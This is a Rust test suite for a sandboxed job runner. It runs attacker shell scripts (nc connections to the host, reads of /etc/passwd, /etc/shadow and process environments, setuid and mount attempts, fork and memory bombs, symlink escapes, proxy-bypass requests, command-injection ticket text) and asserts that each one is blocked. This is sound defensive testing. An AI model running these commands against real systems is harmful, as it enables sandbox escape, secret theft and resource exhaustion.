//! The hostile-agent suite: in each test a stage is an attacker script, run by the docker
//! executor with the default policy, and the test fails if the attack succeeds. (The agent
//! stage kind runs the same container as a `run:` stage; the attacks are plain commands so
//! that each test reads as the attack it is.)

use std::net::{TcpListener, UdpSocket};
use std::process::Command;
use std::time::Duration;

use serde_json::Value;

use super::output;
use super::support::{Repo, containers_of, finished, log_text, outcome};

mod as_unprivileged_user;

/// Runs a one-stage attack; returns the events and the attacker's log.
fn attack(script: &str, extra_stage: &str) -> (Repo, Vec<Value>, String) {
    attack_on("docker", script, extra_stage)
}

/// The same, on the given executor (`docker` or `local`, the bubblewrap sandbox).
fn attack_on(executor: &str, script: &str, extra_stage: &str) -> (Repo, Vec<Value>, String) {
    let indented = indent(script);
    let repo = Repo::new(&format!(
        "  attacker:\n    timeout: 30s\n    resources: {{ memory: 64m, pids: 64 }}\n    run: |\n{indented}{extra_stage}"
    ));
    let (_, ev, _) = repo.run(&["--executor", executor]);
    let log = log_text(&ev, "attacker");
    (repo, ev, log)
}

/// `base`, or `base` plus a multiple of 1000 when a test asked for it before: a sleep no other
/// test uses, so that a `pgrep` for it finds this test's processes only (the same attack runs
/// by two runners at once, see `as_unprivileged_user`).
fn distinct_secs(base: u32) -> u32 {
    static CALLS: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
    base + 1000 * CALLS.fetch_add(1, std::sync::atomic::Ordering::Relaxed)
}

/// A script as the lines of a YAML block scalar under `run: |`.
fn indent(script: &str) -> String {
    script.lines().fold(String::new(), |mut acc, l| {
        acc.push_str("      ");
        acc.push_str(l);
        acc.push('\n');
        acc
    })
}

/// The address containers would use to reach this host (the default bridge's gateway).
fn host_from_container() -> String {
    let out = Command::new("docker")
        .args(["network", "inspect", "bridge", "--format", "{{range .IPAM.Config}}{{.Gateway}}{{end}}"])
        .output()
        .expect("docker network inspect");
    let gw = String::from_utf8_lossy(&out.stdout).trim().to_owned();
    if gw.is_empty() { "172.17.0.1".into() } else { gw }
}

#[test]
fn no_tcp_with_network_none() {
    no_tcp_with_network_none_on("docker");
}

fn no_tcp_with_network_none_on(executor: &str) {
    let listener = TcpListener::bind("0.0.0.0:0").expect("bind");
    listener.set_nonblocking(true).expect("nonblocking");
    let port = listener.local_addr().expect("addr").port();
    let host = host_from_container();
    let (_, _, log) =
        attack_on(executor, &format!("busybox nc -w 3 {host} {port} </dev/null && echo CONNECTED || echo blocked"), "");
    assert!(log.contains("blocked") && !log.contains("CONNECTED") && !log.contains("not found"), "{log}");
    assert!(listener.accept().is_err(), "the attacker reached a TCP server on the host");
}

/// The control for the network attacks: without a sandbox the same attack reaches the host, so
/// the tests above fail if the sandbox stops holding.
#[test]
fn control_the_tcp_attack_succeeds_without_a_sandbox() {
    let listener = TcpListener::bind("0.0.0.0:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let host = host_from_container();
    let repo = Repo::with_policy(
        &format!("  attacker:\n    run: busybox nc -w 3 {host} {port} </dev/null && echo CONNECTED || echo blocked\n"),
        Some("version: 1\nallow_unsandboxed: true\n"),
    );
    // Accept and hang up at once, so that nc ends.
    let accepted = std::thread::spawn(move || listener.accept().is_ok());
    let (_, ev, _) = repo.run(&["--executor", "local", "--unsandboxed"]);
    let log = log_text(&ev, "attacker");
    assert!(log.contains("CONNECTED"), "the control attack did not connect: {log}");
    assert!(accepted.join().expect("accept thread"));
}

#[test]
fn no_udp_with_network_none() {
    no_udp_with_network_none_on("docker");
}

fn no_udp_with_network_none_on(executor: &str) {
    let sock = UdpSocket::bind("0.0.0.0:0").expect("bind");
    sock.set_read_timeout(Some(Duration::from_millis(500))).expect("timeout");
    let port = sock.local_addr().expect("addr").port();
    let host = host_from_container();
    let (_, _, log) =
        attack_on(executor, &format!("echo leak | busybox nc -u -w 1 {host} {port}; echo sent-attempted"), "");
    assert!(log.contains("sent-attempted") && !log.contains("not found"), "{log}");
    let mut buf = [0u8; 64];
    assert!(sock.recv_from(&mut buf).is_err(), "a UDP datagram left the container");
}

#[test]
fn no_dns_with_network_none() {
    no_dns_with_network_none_on("docker");
}

fn no_dns_with_network_none_on(executor: &str) {
    let (_, _, log) = attack_on(executor, "busybox nslookup example.com 2>&1 && echo RESOLVED || echo no-dns", "");
    assert!(log.contains("no-dns") && !log.contains("RESOLVED") && !log.contains("not found"), "{log}");
}

#[test]
fn no_network_interface_but_loopback() {
    let (_, _, log) = attack("ls /sys/class/net", "");
    assert_eq!(log.trim(), "lo");
}

#[test]
fn host_files_outside_the_workspace_are_not_visible() {
    host_files_outside_the_workspace_are_not_visible_on("docker");
}

fn host_files_outside_the_workspace_are_not_visible_on(executor: &str) {
    use std::os::unix::fs::PermissionsExt as _;
    let outside = tempfile::tempdir().expect("dir");
    // Readable by every user, so that only the sandbox stands between the attacker and it.
    std::fs::set_permissions(outside.path(), std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let secret = outside.path().join("host-secret.txt");
    std::fs::write(&secret, "HOST-CANARY-83").expect("write");
    let (_, _, log) =
        attack_on(executor, &format!("cat {} 2>&1; cat /etc/hostname; ls /home /root 2>&1", secret.display()), "");
    assert!(!log.contains("HOST-CANARY-83"), "{log}");
}

#[test]
fn the_docker_socket_is_not_there() {
    the_docker_socket_is_not_there_on("docker");
}

fn the_docker_socket_is_not_there_on(executor: &str) {
    let (_, _, log) = attack_on(executor, "ls -l /var/run/docker.sock /run/docker.sock 2>&1; echo done", "");
    assert!(log.contains("No such file"), "{log}");
}

#[test]
fn nothing_outside_the_workspace_and_tmp_is_writable() {
    let (_, _, log) = attack(
        "for d in / /etc /usr /bin /lightsout-nope /var; do touch $d/x 2>/dev/null && echo WROTE $d; done; echo checked",
        "",
    );
    assert!(log.contains("checked") && !log.contains("WROTE"), "{log}");
}

#[test]
fn no_privilege_escalation() {
    let (_, _, log) = attack(
        "grep -E 'CapEff|NoNewPrivs' /proc/self/status\n\
         cp /bin/busybox /tmp/sh && chmod u+s /tmp/sh && /tmp/sh -c 'id -u'\n\
         chown 0 /tmp/sh 2>/dev/null && echo CHOWNED\n\
         mount -t tmpfs none /tmp 2>/dev/null && echo MOUNTED\n\
         echo id=$(id -u)",
        "",
    );
    assert!(log.contains("CapEff:\t0000000000000000") && log.contains("NoNewPrivs:\t1"), "{log}");
    assert!(!log.contains("CHOWNED") && !log.contains("MOUNTED"), "{log}");
    assert!(!log.lines().any(|l| l.trim() == "0"), "a setuid copy ran as root: {log}");
    assert!(!log.contains("id=0"), "{log}");
}

#[test]
fn a_fork_bomb_hits_the_pids_limit_and_the_runner_survives() {
    let (repo, ev, log) = attack(
        "i=0; while [ $i -lt 500 ]; do sleep 60 & i=$((i+1)); done",
        "  later:\n    run: echo the runner goes on\n",
    );
    assert!(log.contains("can't fork") || log.contains("Resource temporarily unavailable"), "{log}");
    assert_eq!(outcome(&ev, "attacker"), "failed");
    let run = repo.run_ids().pop().expect("run");
    assert!(containers_of(&run).is_empty());
}

#[test]
fn a_memory_bomb_is_killed_at_the_limit() {
    let (_, ev, _) = attack("dd if=/dev/zero of=/dev/null bs=256M count=1 && echo ALLOCATED", "");
    assert_eq!(outcome(&ev, "attacker"), "failed", "{ev:#?}");
    assert!(!log_text(&ev, "attacker").contains("ALLOCATED"));
}

#[test]
fn tmp_cannot_fill_the_disk() {
    // Enough memory that the tmpfs size, not the memory limit, is what stops it.
    let repo = Repo::new(
        "  attacker:\n    resources: { memory: 1g }\n    run: dd if=/dev/zero of=/tmp/fill bs=1M count=800 2>&1 | tail -n 2; echo done\n",
    );
    let (_, ev, _) = repo.run(&[]);
    let log = log_text(&ev, "attacker");
    // dd stops where the 512 MiB tmpfs is full, never writing the 800 MiB it asked for.
    assert!(log.contains("512+0 records out") && !log.contains("800+0 records out"), "{log}");
}

#[test]
fn a_process_left_behind_dies_with_the_stage() {
    let (repo, ev, _) = attack("(sleep 300 &) ; nohup sleep 300 >/dev/null 2>&1 & echo spawned", "");
    assert_eq!(outcome(&ev, "attacker"), "succeeded");
    let run = repo.run_ids().pop().expect("run");
    assert!(containers_of(&run).is_empty(), "a container outlived its stage");
}

#[test]
fn another_stages_secret_and_the_runners_environment_are_out_of_reach() {
    let repo = Repo::with_policy(
        "  holder:\n    secrets: [HOLDER_TOKEN]\n    run: sleep 2\n  attacker:\n    run: env; cat /proc/*/environ 2>/dev/null | tr '\\\\0' '\\\\n'; echo done\n",
        Some("version: 1\nsecrets: { HOLDER_TOKEN: { stages: [run] } }\n"),
    );
    let mut c = repo.cmd(&["--jobs", "2"]);
    c.env("HOLDER_TOKEN", "holder-secret-5521").env("RUNNER_CANARY", "runner-canary-9934");
    let (code, out, err) = output(&mut c);
    assert_eq!(code, 0, "{err}");
    let ev = super::support::events(&out);
    let log = log_text(&ev, "attacker");
    assert!(log.contains("done"), "{log}");
    assert!(!log.contains("holder-secret-5521") && !log.contains("runner-canary-9934"), "{log}");
    assert!(!log.contains("RUNNER_CANARY") && !log.contains("HOLDER_TOKEN"), "{log}");
}

#[test]
fn a_secret_in_a_graders_own_files_is_masked_in_its_verdict_and_cache() {
    // The test command holds the secret and writes it into the test names and messages of its
    // JUnit report, which the verdict (and the cached baseline) are made of.
    let stages = r#"  edit:
    run: echo yes > broken
  tests:
    needs: [edit]
    uses: grade.tests
    secrets: [LEAK_TOKEN]
    with:
      fail_to_pass: [t.bug]
      pass_to_pass: true
      command: |
        if [ -f broken ]; then r="<failure message=\"got $LEAK_TOKEN\"/>"; else r=''; fi
        printf '<testsuite><testcase classname="t" name="bug"><failure/></testcase><testcase classname="t" name="n-%s">%s</testcase></testsuite>' "$LEAK_TOKEN" "$r" > $LIGHTSOUT_JUNIT
"#;
    let repo = Repo::with_policy(stages, Some("version: 1\nsecrets: { LEAK_TOKEN: { stages: [grade.tests] } }\n"));
    let mut c = repo.cmd(&[]);
    c.env("LEAK_TOKEN", "verdict-secret-6612");
    let (_, out, err) = output(&mut c);
    let ev = super::support::events(&out);
    let v = &finished(&ev, "tests").first().unwrap_or_else(|| panic!("no verdict: {err}"))["verdict"];
    assert_eq!(v["pass"], false, "{v:#?}");
    assert!(v.to_string().contains("***"), "the verdict does not show the masked name: {v}");
    let run = repo.run_ids().pop().expect("run");
    let mut seen = vec![std::fs::read_to_string(repo.record(&run).join("events.jsonl")).unwrap_or_default(), out];
    for entry in std::fs::read_dir(repo.path().join(".lightsout/baselines")).expect("baseline cache").flatten() {
        seen.push(std::fs::read_to_string(entry.path()).unwrap_or_default());
    }
    for text in seen {
        assert!(!text.contains("verdict-secret-6612"), "a secret in a verdict or cache: {text}");
    }
}

#[test]
fn planted_symlinks_do_not_lead_the_host_side_runner_out() {
    let (repo, ev, _) = attack(
        "ln -s /etc/passwd leak.txt\nln -s / rootlink\nmkdir -p docs && ln -s /etc/shadow docs/notes.md",
        "  ctx:\n    needs: [attacker]\n    uses: context\n    with: { include: [\"**\"] }\n  scope:\n    needs: [attacker]\n    uses: grade.diff\n",
    );
    assert_eq!(outcome(&ev, "ctx"), "succeeded", "{ev:#?}");
    let run = repo.run_ids().pop().expect("run");
    let bundle = std::fs::read_to_string(repo.record(&run).join("stages/ctx/context.md")).expect("bundle");
    assert!(!bundle.contains("root:x:0:0"), "context followed a symlink: {bundle}");
    assert!(bundle.contains("leak.txt: a symbolic link (not followed)"), "{bundle}");
    let patch = std::fs::read_to_string(repo.record(&run).join("diff.patch")).unwrap_or_default();
    assert!(!patch.contains("root:x:0:0"), "the diff followed a symlink");
    let (_, md, _) = output(super::lightsout(repo.path()).args(["report", &run]));
    assert!(!md.contains("root:x:0:0"));
}

#[test]
fn a_planted_git_file_does_not_redirect_the_runner() {
    let decoy = tempfile::tempdir().expect("decoy");
    let (repo, ev, _) = attack(
        &format!("echo 'gitdir: {}' > .git\necho change > file.txt", decoy.path().display()),
        "  after:\n    needs: [attacker]\n    run: cat file.txt\n",
    );
    assert_eq!(outcome(&ev, "after"), "succeeded", "{ev:#?}");
    assert_eq!(std::fs::read_dir(decoy.path()).map_or(0, Iterator::count), 0, "git wrote into the decoy");
    let run = repo.run_ids().pop().expect("run");
    let patch = std::fs::read_to_string(repo.record(&run).join("diff.patch")).unwrap_or_default();
    assert!(patch.contains("+change"), "{patch}");
}

#[test]
fn the_outputs_file_cannot_be_a_symlink_to_a_host_file() {
    the_outputs_file_cannot_be_a_symlink_to_a_host_file_on("docker");
}

fn the_outputs_file_cannot_be_a_symlink_to_a_host_file_on(executor: &str) {
    let (_, ev, _) = attack_on(executor, "ln -sf /etc/passwd $LIGHTSOUT_OUTPUT", "");
    assert_eq!(outcome(&ev, "attacker"), "failed");
    let f = finished(&ev, "attacker")[0];
    let reason = f["reason"].as_str().unwrap_or_default();
    assert!(reason.contains("not a regular file") || reason.contains("symbolic link"), "{f:#?}");
    assert!(!f.to_string().contains("root:x:0:0"));
}

#[test]
fn an_oversized_outputs_file_is_refused() {
    let (_, ev, _) = attack("head -c 2000000 /dev/zero | tr '\\\\0' a | sed 's/^/k=/' > $LIGHTSOUT_OUTPUT", "");
    let f = finished(&ev, "attacker")[0];
    assert!(f["reason"].as_str().unwrap_or_default().contains("larger than"), "{f:#?}");
}

#[test]
fn escape_sequences_in_output_never_reach_the_terminal() {
    let repo = Repo::new("  attacker:\n    run: |\n      printf '\\033]0;pwned\\007\\033[2J\\033[31mred\\n'\n");
    let (code, _, err) =
        output(super::lightsout(repo.path()).args(["run", "--ticket", "t.md", "--category", "misc"]).env("CI", "true"));
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("[31mred"), "{err}");
    assert!(!err.contains('\u{1b}') && !err.contains('\u{7}'), "{err:?}");
}

#[test]
fn a_stage_running_past_its_timeout_is_stopped_and_removed() {
    let repo = Repo::new("  attacker:\n    timeout: 2s\n    run: trap '' TERM; while true; do sleep 1; done\n");
    let (code, ev, _) = repo.run(&[]);
    assert_eq!(code, 1);
    assert_eq!(outcome(&ev, "attacker"), "timed_out");
    let run = repo.run_ids().pop().expect("run");
    assert!(containers_of(&run).is_empty());
}

// The same attacks against the local executor (bubblewrap), where they apply. Resource limits
// (fork and memory bombs, /tmp size) do not: the local executor has no cgroups. Its privilege
// attacks (never host root, no capabilities, no setuid file left) are in `fence`.

#[test]
fn local_no_tcp_with_network_none() {
    no_tcp_with_network_none_on("local");
}

#[test]
fn local_no_udp_with_network_none() {
    no_udp_with_network_none_on("local");
}

#[test]
fn local_no_dns_with_network_none() {
    no_dns_with_network_none_on("local");
}

#[test]
fn local_host_files_outside_the_workspace_are_not_visible() {
    host_files_outside_the_workspace_are_not_visible_on("local");
}

#[test]
fn local_the_docker_socket_is_not_there() {
    the_docker_socket_is_not_there_on("local");
}

#[test]
fn local_the_outputs_file_cannot_be_a_symlink_to_a_host_file() {
    the_outputs_file_cannot_be_a_symlink_to_a_host_file_on("local");
}

#[test]
fn local_host_system_directories_are_read_only() {
    let (_, _, log) = attack_on(
        "local",
        "for d in /etc /usr /bin /sbin; do touch $d/lightsout-x 2>/dev/null && echo WROTE $d; done; echo checked",
        "",
    );
    assert!(log.contains("checked") && !log.contains("WROTE"), "{log}");
    assert!(!std::path::Path::new("/etc/lightsout-x").exists() && !std::path::Path::new("/usr/lightsout-x").exists());
}

#[test]
fn local_the_runners_environment_is_out_of_reach() {
    let repo = Repo::new("  attacker:\n    run: env; echo done\n");
    let mut c = repo.cmd(&["--executor", "local"]);
    c.env("RUNNER_CANARY", "runner-canary-4471");
    let (code, out, err) = output(&mut c);
    assert_eq!(code, 0, "{err}");
    let log = log_text(&super::support::events(&out), "attacker");
    assert!(log.contains("done") && !log.contains("runner-canary-4471"), "{log}");
}

#[test]
fn local_a_process_left_behind_dies_with_the_stage() {
    let secs = distinct_secs(317);
    let (_, ev, _) =
        attack_on("local", &format!("(sleep {secs} &); nohup sleep {secs} >/dev/null 2>&1 & echo spawned"), "");
    assert_eq!(outcome(&ev, "attacker"), "succeeded");
    std::thread::sleep(Duration::from_millis(300));
    let left = Command::new("pgrep").args(["-f", &format!("sleep {secs}")]).output().expect("pgrep");
    assert!(String::from_utf8_lossy(&left.stdout).trim().is_empty(), "a process outlived its sandbox");
}

#[test]
fn local_a_stage_past_its_timeout_is_killed() {
    let secs = distinct_secs(319);
    let repo = Repo::new(&format!("  attacker:\n    timeout: 2s\n    run: trap '' TERM; sleep {secs}\n"));
    let started = std::time::Instant::now();
    let (code, ev, _) = repo.run(&["--executor", "local"]);
    assert_eq!(code, 1);
    assert_eq!(outcome(&ev, "attacker"), "timed_out");
    assert!(started.elapsed() < Duration::from_secs(20));
    std::thread::sleep(Duration::from_millis(300));
    let left = Command::new("pgrep").args(["-f", &format!("sleep {secs}")]).output().expect("pgrep");
    assert!(String::from_utf8_lossy(&left.stdout).trim().is_empty(), "the timed-out sandbox is still running");
}

/// A ticket whose title and body hold template syntax, shell syntax, quotes, newlines, a NUL
/// byte and escape sequences goes through context, prompt, command, report and terminal as
/// inert data.
#[test]
fn a_hostile_ticket_is_inert_data_everywhere() {
    let title = "x {{ 7*7 }} {% if true %}T{% endif %} $(touch pwned-title) `touch pwned-tick` 'q' \"d\" \u{1b}[31mred";
    let body = "line1\n{{ ticket.id }} $(touch pwned-body)\n\u{0}nul \u{1b}]0;title\u{7} end";
    let agent = r#"agents:
  copier:
    command: ["sh", "-c", "cp $LIGHTSOUT_PROMPT_FILE prompt.txt"]
    prompt: stdin
"#;
    let repo = Repo::full(
        "  ctx:\n    uses: context\n  fix:\n    needs: [ctx]\n    uses: agent\n    with: { agent: copier, prompt: \"T={{ ticket.title }} B={{ ticket.body }}\" }\n  echo:\n    needs: [fix]\n    run: printf '%s' {{ ticket.title }} > title.txt; echo {{ ticket.body }}\n",
        None,
        agent,
    );
    let event = serde_json::json!({
        "action": "opened",
        "issue": {"number": 9, "title": title, "body": body, "labels": [], "html_url": "https://github.com/acme/w/issues/9", "user": {"login": "mallory"}},
        "repository": {"full_name": "acme/w"}
    });
    std::fs::write(repo.path().join("event.json"), event.to_string()).expect("event");
    let (code, out, err) = output(
        super::lightsout(repo.path())
            .args(["run", "--ticket", "event.json", "--category", "misc", "--keep-workspace"])
            .env("CI", "true"),
    );
    assert_eq!(code, 0, "{err}\n{out}");
    // The terminal got no escape sequence and no NUL.
    assert!(!err.contains('\u{1b}') && !err.contains('\u{7}') && !err.contains('\u{0}'), "{err:?}");
    let run = repo.run_ids().pop().expect("run");
    let ws = repo.path().join(".lightsout/worktrees").join(&run);
    // Nothing in the text ran.
    for f in ["pwned-title", "pwned-tick", "pwned-body"] {
        assert!(!ws.join(f).exists(), "{f} was created");
    }
    // The command got the title as one word, exactly (without the NUL a command line cannot hold).
    assert_eq!(std::fs::read_to_string(ws.join("title.txt")).expect("title"), title);
    // The prompt holds the text as written: not evaluated as a template.
    let prompt = std::fs::read_to_string(ws.join("prompt.txt")).expect("prompt");
    assert!(
        prompt.contains("{{ 7*7 }}") && prompt.contains("{{ ticket.id }}") && !prompt.contains("T=x 49"),
        "{prompt}"
    );
    // The context bundle fences the body; the report shows the title as code, without escapes.
    let bundle = std::fs::read_to_string(repo.record(&run).join("stages/ctx/context.md")).expect("bundle");
    assert!(bundle.contains("$(touch pwned-body)"), "{bundle}");
    let (_, md, _) = output(super::lightsout(repo.path()).args(["report", &run]));
    assert!(!md.contains('\u{1b}') && !md.contains('\u{0}'), "{md:?}");
    assert!(md.contains("{{ 7*7 }}"), "{md}");
}

/// Servers of the test's own, in containers on a network of the test's own, which lightsout
/// uses as its egress network (`LIGHTSOUT_EGRESS_NETWORK`). `allowed.test` and `denied.test`
/// each serve `BODY-<name>` over HTTP on ports 80, 8080 and 8443.
pub(crate) struct Lab {
    net: String,
    servers: Vec<String>,
}

impl Lab {
    pub(crate) fn new() -> Lab {
        static COUNTER: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
        let n = COUNTER.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let net = format!("lightsout-test-egress-{}-{n}", std::process::id());
        let docker = |args: &[&str]| {
            let out = Command::new("docker").args(args).output().expect("docker");
            assert!(out.status.success(), "docker {args:?}: {}", String::from_utf8_lossy(&out.stderr));
        };
        docker(&["network", "create", &net]);
        let mut lab = Lab { net, servers: Vec::new() };
        for name in ["allowed", "denied"] {
            let container = format!("{}-{name}", lab.net);
            let script = format!(
                "mkdir -p /tmp/www && echo BODY-{name} > /tmp/www/index.html && httpd -p 8080 -h /tmp/www && httpd -p 8443 -h /tmp/www && exec httpd -f -p 80 -h /tmp/www"
            );
            docker(&[
                "run",
                "-d",
                "--rm",
                "--name",
                &container,
                "--network",
                &lab.net,
                "--network-alias",
                &format!("{name}.test"),
                super::support::BUSYBOX,
                "sh",
                "-c",
                &script,
            ]);
            lab.servers.push(container);
        }
        lab
    }

    /// The address of a server on the lab's network.
    fn address(&self, name: &str) -> String {
        let out = Command::new("docker")
            .args([
                "inspect",
                &format!("{}-{name}", self.net),
                "--format",
                "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}",
            ])
            .output()
            .expect("docker inspect");
        String::from_utf8_lossy(&out.stdout).trim().to_owned()
    }

    /// The address of this machine on the lab's network (its gateway).
    pub(crate) fn gateway(&self) -> String {
        let out = Command::new("docker")
            .args(["network", "inspect", &self.net, "--format", "{{range .IPAM.Config}}{{.Gateway}}{{end}}"])
            .output()
            .expect("docker network inspect");
        String::from_utf8_lossy(&out.stdout).trim().to_owned()
    }

    /// Runs `script` as a docker stage allowed to reach `allow`, with this lab as the egress
    /// network.
    pub(crate) fn attack(&self, allow: &[&str], script: &str) -> (Repo, Vec<Value>, String) {
        egress_attack("docker", Some(&self.net), allow, script)
    }
}

/// Runs `script` as a stage allowed to reach `allow` (the policy allows the same), its proxy's
/// address in `$PROXY`; returns the repository, the events and the stage's log.
pub(crate) fn egress_attack(
    executor: &str,
    egress_net: Option<&str>,
    allow: &[&str],
    script: &str,
) -> (Repo, Vec<Value>, String) {
    let list = allow.iter().map(|h| format!("\"{h}\"")).collect::<Vec<_>>().join(", ");
    let indented = indent(script);
    let repo = Repo::with_policy(
        &format!(
            "  attacker:\n    timeout: 60s\n    network: {{ allow: [{list}] }}\n    run: |\n      P=${{HTTP_PROXY#http://}}; PROXY=${{P%:*}}\n{indented}"
        ),
        Some(&format!("version: 1\nnetwork: {{ allow: [{list}] }}\n")),
    );
    let mut c = repo.cmd(&["--executor", executor]);
    if let Some(net) = egress_net {
        c.env("LIGHTSOUT_EGRESS_NETWORK", net);
    }
    let (_, out, err) = output(&mut c);
    let ev = super::support::events(&out);
    let log = log_text(&ev, "attacker");
    assert!(!finished(&ev, "attacker").is_empty(), "the stage did not run: {err}");
    (repo, ev, log)
}

/// An HTTP server of the test's own on this machine, answering `body` to every request.
fn http_server(bind: &str, body: &'static str) -> u16 {
    let listener = TcpListener::bind(bind).expect("bind");
    let port = listener.local_addr().expect("addr").port();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            std::thread::spawn(move || {
                use std::io::{Read as _, Write as _};
                let mut buf = [0u8; 4096];
                let mut seen = Vec::new();
                while !seen.windows(4).any(|w| w == b"\r\n\r\n") {
                    match stream.read(&mut buf) {
                        Ok(0) | Err(_) => return,
                        Ok(n) => seen.extend_from_slice(&buf[..n]),
                    }
                }
                let _ = write!(stream, "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}", body.len());
            });
        }
    });
    port
}

impl Drop for Lab {
    fn drop(&mut self) {
        let _ = Command::new("docker").arg("rm").arg("-f").args(&self.servers).output();
        let _ = Command::new("docker").args(["network", "rm", &self.net]).output();
    }
}

/// The egress events of a run, as (host:port, allowed).
pub(crate) fn egress_events(ev: &[Value]) -> Vec<(String, bool)> {
    ev.iter()
        .filter(|e| e["event"] == "egress")
        .map(|e| (format!("{}:{}", e["host"].as_str().unwrap_or_default(), e["port"]), e["allowed"] == true))
        .collect()
}

#[test]
fn egress_admits_the_allow_list_only_and_records_every_decision() {
    let lab = Lab::new();
    let (repo, ev, log) = lab.attack(
        &["allowed.test:80", "allowed.test:8443"],
        "wget -q -O- http://allowed.test/ && echo PLAIN-OK\n\
         wget -q -O- http://denied.test/ 2>&1; echo after-denied\n\
         printf 'CONNECT allowed.test:8443 HTTP/1.1\\r\\n\\r\\nGET / HTTP/1.0\\r\\n\\r\\n' | nc -w 3 $PROXY 3128\n\
         printf 'CONNECT denied.test:8443 HTTP/1.1\\r\\n\\r\\nGET / HTTP/1.0\\r\\n\\r\\n' | nc -w 3 $PROXY 3128\n\
         echo end",
    );
    assert!(log.contains("BODY-allowed") && log.contains("PLAIN-OK"), "{log}");
    assert!(log.contains("200 Connection Established"), "{log}");
    assert!(!log.contains("BODY-denied") && log.contains("403 Forbidden") && log.contains("end"), "{log}");
    let decisions = egress_events(&ev);
    for expected in
        [("allowed.test:80", true), ("denied.test:80", false), ("allowed.test:8443", true), ("denied.test:8443", false)]
    {
        assert!(decisions.contains(&(expected.0.to_owned(), expected.1)), "{expected:?} not in {decisions:?}");
    }
    // The same decisions are in the run's record, not only on the screen, and in the report.
    let run = repo.run_ids().pop().expect("run");
    assert_eq!(egress_events(&repo.recorded_events(&run)), decisions);
    let (code, md, err) = output(super::lightsout(repo.path()).args(["report", &run]));
    assert_eq!(code, 0, "{err}");
    assert!(md.contains("| attacker | `allowed.test:80` | allowed | 1 | `allowed by allowed.test:80` |"), "{md}");
    assert!(
        md.contains("| attacker | `denied.test:8443` | **refused** | 1 | `not on the stage's allow-list` |"),
        "{md}"
    );
    let (_, json, _) = output(super::lightsout(repo.path()).args(["report", &run, "--format", "json"]));
    let v: Value = serde_json::from_str(&json).expect("json report");
    assert_eq!(v["egress"].as_array().map(Vec::len), Some(4), "{json}");
}

#[test]
fn egress_refuses_an_allowed_host_on_another_port_and_bare_addresses() {
    let lab = Lab::new();
    let ip = lab.address("allowed");
    let (repo, ev, log) = lab.attack(
        &["allowed.test:80"],
        &format!(
            "printf 'CONNECT allowed.test:8080 HTTP/1.1\\r\\n\\r\\nGET / HTTP/1.0\\r\\n\\r\\n' | nc -w 3 $PROXY 3128\n\
             printf 'CONNECT {ip}:80 HTTP/1.1\\r\\n\\r\\nGET / HTTP/1.0\\r\\n\\r\\n' | nc -w 3 $PROXY 3128\n\
             printf 'GET http://{ip}/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n' | nc -w 3 $PROXY 3128\n\
             printf 'GET http://allowed.test@denied.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n' | nc -w 3 $PROXY 3128\n\
             printf 'CONNECT x`![p](q)|y:443 HTTP/1.1\\r\\n\\r\\n' | nc -w 3 $PROXY 3128\n\
             echo end"
        ),
    );
    assert!(log.contains("end") && !log.contains("BODY-"), "{log}");
    // A target name is data in the report too: in a code span, its markup and table breaks inert.
    let run = repo.run_ids().pop().expect("run");
    let (_, md, _) = output(super::lightsout(repo.path()).args(["report", &run]));
    assert!(md.contains("| attacker | ``CONNECT x`![p](q)\\|y:443`` | **refused** |"), "{md}");
    let decisions = egress_events(&ev);
    assert!(decisions.contains(&("allowed.test:8080".into(), false)), "{decisions:?}");
    assert!(decisions.contains(&(format!("{ip}:80"), false)), "{decisions:?}");
    assert!(decisions.iter().all(|(_, allowed)| !allowed), "{decisions:?}");
}

#[test]
fn egress_cannot_go_around_the_proxy() {
    let lab = Lab::new();
    let server = lab.address("allowed");
    let listener = TcpListener::bind("0.0.0.0:0").expect("bind");
    listener.set_nonblocking(true).expect("nonblocking");
    let port = listener.local_addr().expect("addr").port();
    let udp = UdpSocket::bind("0.0.0.0:0").expect("bind");
    udp.set_read_timeout(Some(Duration::from_millis(500))).expect("timeout");
    let udp_port = udp.local_addr().expect("addr").port();
    let host = host_from_container();
    let (_, _, log) = lab.attack(
        &["allowed.test:80"],
        &format!(
            "nc -w 3 {server} 80 </dev/null && echo DIRECT-SERVER || echo no-direct-server\n\
             nc -w 3 {host} {port} </dev/null && echo DIRECT-HOST || echo no-direct-host\n\
             GW=$(ip route | awk '/default/ {{print $3}}'); nc -w 3 ${{GW:-0.0.0.0}} {port} </dev/null && echo GATEWAY-HOST || echo no-gateway-host\n\
             echo leak | nc -u -w 1 {host} {udp_port}\n\
             nslookup allowed.test 2>&1 | grep -q {server} && echo RESOLVED || echo no-dns\n\
             nslookup example.com 2>&1 | grep -q 'Address: [0-9]' && echo RESOLVED-OUT || echo no-dns-out\n\
             echo end"
        ),
    );
    for refused in ["no-direct-server", "no-direct-host", "no-gateway-host", "no-dns", "no-dns-out", "end"] {
        assert!(log.contains(refused), "{refused}: {log}");
    }
    assert!(listener.accept().is_err(), "the stage reached a TCP server on the host");
    let mut buf = [0u8; 64];
    assert!(udp.recv_from(&mut buf).is_err(), "a UDP datagram left the stage's network");
}

#[test]
fn egress_survives_a_flood_of_connections() {
    let lab = Lab::new();
    let (_, ev, log) = lab.attack(
        &["allowed.test:80"],
        "i=0; while [ $i -lt 120 ]; do\n\
           (printf 'CONNECT allowed.test:80 HTTP/1.1\\r\\n\\r\\n' | nc -w 5 $PROXY 3128 >/dev/null 2>&1 &)\n\
           (printf 'CONNECT denied.test:80 HTTP/1.1\\r\\n\\r\\n' | nc -w 5 $PROXY 3128 >/dev/null 2>&1 &)\n\
           i=$((i+1))\n\
         done\n\
         wget -q -O- http://allowed.test/ && echo STILL-SERVING",
    );
    assert!(log.contains("BODY-allowed") && log.contains("STILL-SERVING"), "{log}");
    let decisions = egress_events(&ev);
    assert!(decisions.iter().any(|(h, a)| h == "denied.test:80" && !a), "{decisions:?}");
    assert!(decisions.iter().filter(|(_, a)| *a).count() > 1, "{decisions:?}");
}

#[test]
fn a_missing_egress_network_is_named_and_nothing_runs() {
